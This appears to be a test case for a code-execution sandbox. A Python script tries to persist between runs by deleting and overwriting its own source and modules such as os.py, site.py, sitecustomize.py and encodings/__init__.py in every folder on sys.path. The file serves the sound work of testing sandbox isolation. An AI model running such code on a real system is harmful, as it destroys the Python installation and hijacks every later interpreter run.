# attack: replaces its own source, its directory's modules and compiled files
# case: plant -> planted
# case: look -> original
# expect: accepted
# limits: cpu=2 idle=4 memory=64
import os
import site
import sys

if input() == "look":
    print("original")
    raise SystemExit
places = [os.path.abspath(__file__), site.getusersitepackages() + "/usercustomize.py"]
for folder in {os.path.dirname(os.path.abspath(__file__)), os.getcwd(), *sys.path}:
    places += [f"{folder}/{name}" for name in ("sitecustomize.py", "usercustomize.py", "os.py", "site.py", "x.pth", "__pycache__/main.pyc", "encodings/__init__.py")]
for place in places:
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        if os.path.exists(place):
            os.unlink(place)
        with open(place, "w") as file:
            file.write("print('replaced')\n")
    except OSError:
        pass
print("planted")
